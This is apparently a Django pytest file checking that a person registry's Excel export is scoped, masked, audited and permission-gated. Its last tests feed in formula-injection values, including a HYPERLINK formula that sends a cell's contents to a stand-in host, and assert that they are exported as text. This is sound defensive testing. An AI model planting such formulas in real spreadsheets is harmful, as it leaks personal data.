"""Export of the person list to Excel: the same filters as the list page, scoped, masked for everyone, as
a job with progress, audited."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from guanhuai.accounts.tests.factories import user_with_role
from guanhuai.audit.models import AuditEntry
from guanhuai.jobs.models import Job
from guanhuai.registry import exports, services
from guanhuai.registry.models import Person
from guanhuai.registry.selectors import PersonFilters
from guanhuai.registry.tests.factories import family


@pytest.fixture
def households(tree, people):
    """Two families in 甲镇 (one of them bereaved) and one in 乙镇."""
    jia = family(people.approver, tree.village_a, children=1)
    bereaved = family(people.approver, tree.community_a, children=1, address="社区路2号")
    child = Person.objects.get(household=bereaved, relation_to_head="child")
    services.death_record(
        actor=people.approver, person=child, occurred_on=child.birth_date.replace(year=2020)
    )
    yi = family(people.approver, tree.village_b, children=2, address="乙村路3号")
    return jia, bereaved, yi


def sheet(content: bytes) -> list[list]:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_a_township_users_export_never_has_the_other_townships_rows(tree, people, households):
    rows = sheet(exports.export_persons(actor=people.reviewer_a, filters=PersonFilters()))
    assert rows[0] == exports.HEADERS
    villages = {r[0] for r in rows[1:]}
    assert villages == {"甲村", "甲社区"}
    assert len(rows) - 1 == 5  # 2 + 3 living persons in 甲镇; the dead child is not in the default list
    # even when the filter names 乙镇's village, the scope wins
    rows_b = sheet(
        exports.export_persons(actor=people.reviewer_a, filters=PersonFilters(unit=tree.village_b))
    )
    assert rows_b[1:] == []


def test_ids_and_phones_are_masked_for_every_role(tree, people, households):
    person = Person.objects.filter(org_unit=tree.village_a).first()
    Person.objects.filter(pk=person.pk).update(phone_masked="138****8000")
    # the county approver may unmask on screen, yet the file holds masks only
    content = exports.export_persons(actor=people.approver, filters=PersonFilters(alive=None))
    rows = sheet(content)
    ids = [r[7] for r in rows[1:]]
    assert len(ids) == Person.objects.count()
    assert all("*" in i and len(i) == 18 for i in ids)
    assert "138****8000" in [r[11] for r in rows[1:]]
    for p in Person.objects.all():
        assert p.id_number not in {str(v) for r in rows for v in r}
        assert p.id_number.encode() not in content


def test_filters_are_the_list_pages_filters(tree, people, households):
    filters = exports.filters_from_params(
        actor=people.approver, params={"special_status": "bereaved", "unit": "440224100000"}
    )
    rows = sheet(exports.export_persons(actor=people.approver, filters=filters))
    assert {r[15] for r in rows[1:]} == {"失独"} and len(rows) == 3
    assert {r[0] for r in rows[1:]} == {"甲社区"}


def test_export_page_queues_a_job_whose_file_is_scoped_and_masked(
    client, tree, people, households, django_capture_on_commit_callbacks
):
    client.force_login(people.reviewer_a)
    page = client.get(reverse("registry_io:export") + "?sex=male")
    html = page.content.decode()
    assert page.status_code == 200 and "一律脱敏" in html
    assert page.context["count"] == 3 and "导出3人" in html
    key = page.context["form"].initial["request_key"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("registry_io:export"), {"sex": "male", "request_key": key})
    job = Job.objects.get(kind="registry.export_persons")
    assert response.status_code == 302 and response["Location"] == reverse("jobs:detail", args=[job.pk])
    assert job.status == "succeeded", job.error
    assert job.counts == {"rows": 3} and job.progress_done == job.progress_total == 3
    rows = sheet(job.result_file.read())
    assert {r[5] for r in rows[1:]} == {"男"} and {r[0] for r in rows[1:]} <= {"甲村", "甲社区"}
    entry = AuditEntry.objects.get(action="registry.persons.exported")
    assert entry.data["rows"] == 3 and entry.data["filters"]["sex"] == "male" and entry.data["masked"]
    # a double click on the same page is one job
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("registry_io:export"), {"sex": "male", "request_key": key})
    assert Job.objects.filter(kind="registry.export_persons").count() == 1


def test_an_id_typed_as_search_term_is_masked_in_the_audit(tree, people, households):
    person = Person.objects.filter(org_unit=tree.village_a).first()
    filters = PersonFilters(q=person.id_number)
    rows = sheet(exports.export_persons(actor=people.reviewer_a, filters=filters))
    assert [r[4] for r in rows[1:]] == [person.name]
    entry = AuditEntry.objects.get(action="registry.persons.exported")
    assert entry.data["filters"]["q"] == person.id_masked


def test_export_is_hidden_from_roles_without_the_permission(client, tree, people, households):
    finance = user_with_role("finance_officer", tree.county, username="finance")
    client.force_login(finance)
    assert client.get(reverse("registry_io:export")).status_code == 404
    assert client.post(reverse("registry_io:export"), {"request_key": "k"}).status_code == 404
    assert Job.objects.count() == 0


def test_an_unknown_unit_code_is_an_error_on_the_page_and_no_job(client, tree, people, households):
    client.force_login(people.reviewer_a)
    response = client.post(reverse("registry_io:export"), {"unit": "440224101000", "request_key": "k1"})
    assert response.status_code == 200
    assert "440224101000 对应的组织不存在，或您无权操作" in response.context["error"]
    assert Job.objects.count() == 0


def test_export_reads_in_chunks_with_a_fixed_number_of_queries(
    tree, people, households, django_assert_max_num_queries
):
    for i in range(5):
        family(people.approver, tree.village_a, children=2, address=f"新村路{i}号")
    with django_assert_max_num_queries(5):
        content = exports.export_persons(actor=people.approver, filters=PersonFilters())
    assert len(sheet(content)) - 1 == Person.objects.filter(died_on__isnull=True).count()


def test_an_id_typed_as_search_term_is_never_stored_in_clear_in_the_job(
    client, tree, people, households, django_capture_on_commit_callbacks
):
    person = Person.objects.filter(org_unit=tree.village_a).first()
    client.force_login(people.reviewer_a)
    key = client.get(reverse("registry_io:export")).context["form"].initial["request_key"]

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("registry_io:export"), {"q": person.id_number, "request_key": key})

    job = Job.objects.get(kind="registry.export_persons")
    assert person.id_number not in str(job.params)
    # the job still finds exactly that person
    assert job.status == "succeeded", job.error
    assert [r[4] for r in sheet(job.result_file.read())[1:]] == [person.name]
    # and the job's page does not show it either
    assert person.id_number not in client.get(reverse("jobs:detail", args=[job.pk])).content.decode()


def test_a_name_or_address_that_is_a_formula_is_exported_as_text(tree, people, households):
    jia = households[0]
    Person.objects.filter(household=jia, relation_to_head="head").update(
        name='=HYPERLINK("http://x/?"&H2,"x")'
    )
    jia.__class__.objects.filter(pk=jia.pk).update(address="@SUM(1+1)")
    ws = load_workbook(
        io.BytesIO(exports.export_persons(actor=people.approver, filters=PersonFilters()))
    ).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in cells}
    assert '\'=HYPERLINK("http://x/?"&H2,"x")' in values and "'@SUM(1+1)" in values


def test_the_import_error_workbook_gives_back_a_formula_typed_in_the_upload_as_text():
    from guanhuai.registry import io_excel

    content = io_excel.error_workbook(iter([({"name": "@SUM(A1)", "address": "\t=1+1"}, "姓名不对")]))
    ws = load_workbook(io.BytesIO(content)).active
    values = [c.value for c in ws[2]]
    assert "'@SUM(A1)" in values and "'\t=1+1" in values and "姓名不对" in values
